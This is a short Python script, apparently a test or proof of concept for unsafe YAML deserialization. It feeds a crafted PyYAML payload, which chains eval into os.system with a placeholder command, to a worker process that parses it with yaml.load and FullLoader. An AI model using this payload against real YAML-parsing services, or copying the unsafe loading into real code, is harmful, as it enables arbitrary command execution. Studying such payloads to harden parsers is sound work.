"""Hand a text to a worker process, which reads it."""

import subprocess
import sys

TEXT = """!!python/object/new:tuple
- !!python/object/new:map
  - !!python/name:eval
  - ["__import__('os').system('true @@TOKEN@@')"]
"""

WORKER = "import sys, yaml; print(yaml.load(sys.stdin, Loader=yaml.FullLoader))"

done = subprocess.run([sys.executable, "-c", WORKER], input=TEXT, text=True, capture_output=True, check=False)
print(done.stdout, done.stderr)
